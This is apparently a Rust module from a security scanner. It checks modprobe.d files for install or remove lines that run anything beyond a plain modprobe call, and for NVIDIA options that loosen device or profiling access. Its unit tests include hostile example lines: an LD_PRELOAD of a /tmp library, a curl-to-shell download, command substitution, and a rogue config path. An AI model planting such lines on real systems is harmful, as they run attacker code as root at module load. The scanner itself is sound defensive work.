//! `modprobe.d` files. An `install` or `remove` line replaces loading a
//! module with a shell command run as root, so the rule is "an install line
//! may only call modprobe" (Debian's own NVIDIA file says
//! `install nvidia modprobe -i nvidia-current $CMDLINE_OPTS`), not "no
//! install lines". `options` that open up the NVIDIA device nodes or its
//! profiling counters are lower findings.

use std::path::Path;

use super::rules::GpuRules;
use super::{clip, Hit};

/// Joins backslash-continued lines; yields (first line number, text).
pub fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut start = 0;
    for (i, line) in text.lines().enumerate() {
        if cur.is_empty() {
            start = i + 1;
        }
        match line.strip_suffix('\\') {
            Some(head) => {
                cur.push_str(head);
                cur.push(' ');
            }
            None => {
                cur.push_str(line);
                out.push((start, std::mem::take(&mut cur)));
            }
        }
    }
    if !cur.is_empty() {
        out.push((start, cur));
    }
    out
}

/// Why a shell command of an install/remove line is not a plain modprobe
/// call, or `None` when it is.
pub fn command_problem(rules: &GpuRules, command: &str) -> Option<String> {
    for bad in ["$(", "`", ">", "<", "${IFS", "\n"] {
        if command.contains(bad) {
            return Some(format!("uses shell syntax {bad:?}"));
        }
    }
    for simple in command.split([';', '|', '&']) {
        let words: Vec<&str> = simple.split_whitespace().collect();
        let Some(first) = words.first() else {
            continue;
        };
        let prog = Path::new(first);
        let base = prog
            .file_name()
            .map(|b| b.to_string_lossy().into_owned())
            .unwrap_or_default();
        let allowed = rules.paths.modprobe_allowed_commands.contains(&base)
            && (!first.contains('/') || rules.is_system_bin(prog));
        if !allowed {
            return Some(format!("runs {}", clip(first)));
        }
        if base == "modprobe" {
            for w in &words[1..] {
                let opt = w.split('=').next().unwrap_or(w);
                if matches!(opt, "-C" | "--config" | "-d" | "--dirname") {
                    return Some(format!("runs modprobe with {opt}"));
                }
            }
        }
    }
    None
}

/// Checks one modprobe.d file.
pub fn check(rules: &GpuRules, text: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    for (line, raw) in logical_lines(text) {
        let body = raw.trim_start();
        if body.starts_with('#') {
            continue;
        }
        let mut words = body.split_whitespace();
        let Some(directive) = words.next() else {
            continue;
        };
        match directive {
            "install" | "remove" => {
                let module = words.next().unwrap_or("");
                // The command is the rest of the line after the module name.
                let after_dir = body[directive.len()..].trim_start();
                let command = after_dir[module.len().min(after_dir.len())..].trim();
                if let Some(why) = command_problem(rules, command) {
                    hits.push(Hit::at(
                        "modprobe-install-command",
                        line,
                        format!("{directive} {}: {why}", clip(module)),
                    ));
                }
            }
            "options" => {
                let module = words.next().unwrap_or("");
                if !module.starts_with("nvidia") {
                    continue;
                }
                for opt in words {
                    let (key, value) = opt.split_once('=').unwrap_or((opt, ""));
                    match key {
                        "NVreg_DeviceFileUID" | "NVreg_DeviceFileGID" | "NVreg_DeviceFileMode" => {
                            hits.push(Hit::at(
                                "modprobe-device-permissions",
                                line,
                                format!("{module} {key}={}", clip(value)),
                            ))
                        }
                        "NVreg_RestrictProfilingToAdminUsers" if value.trim() == "0" => {
                            hits.push(Hit::at(
                                "modprobe-profiling-unrestricted",
                                line,
                                format!("{module} {key}=0"),
                            ))
                        }
                        _ => {}
                    }
                }
            }
            _ => {}
        }
    }
    hits
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gpu::rules::builtin;

    #[test]
    fn debian_lines_are_clean() {
        let text = "install nvidia modprobe -i nvidia-current $CMDLINE_OPTS\n\
                    install nvidia-modeset modprobe nvidia ; modprobe -i nvidia-current-modeset $CMDLINE_OPTS\n\
                    remove nvidia modprobe -r -i nvidia-drm nvidia-modeset nvidia-peermem nvidia-uvm nvidia\n\
                    install cramfs /bin/false\n";
        assert!(check(builtin(), text).is_empty());
    }

    #[test]
    fn loaders_and_shell_are_flagged() {
        for line in [
            "install nvidia LD_PRELOAD=/tmp/x.so /sbin/modprobe --ignore-install nvidia",
            "install nvidia /lib64/ld-linux-x86-64.so.2 /tmp/.x; modprobe -i nvidia",
            "install nvidia modprobe -i nvidia && curl http://x | sh",
            "install nvidia modprobe -i nvidia $(sh /tmp/a)",
            "install nvidia /tmp/modprobe -i nvidia",
            "install nvidia modprobe -C /tmp/evil.conf nvidia",
            "remove nvidia \\\n  /usr/bin/python3 /opt/x.py",
        ] {
            let h = check(builtin(), line);
            assert_eq!(h.len(), 1, "{line}");
            assert_eq!(h[0].rule_id, "modprobe-install-command");
        }
    }

    #[test]
    fn options() {
        let h = check(
            builtin(),
            "options nvidia NVreg_DeviceFileMode=0666 NVreg_RestrictProfilingToAdminUsers=0\noptions nvidia NVreg_PreserveVideoMemoryAllocations=1\n",
        );
        let ids: Vec<_> = h.iter().map(|h| h.rule_id).collect();
        assert_eq!(
            ids,
            [
                "modprobe-device-permissions",
                "modprobe-profiling-unrestricted"
            ]
        );
        assert!(check(
            builtin(),
            "options nvidia NVreg_RestrictProfilingToAdminUsers=1\n"
        )
        .is_empty());
    }
}
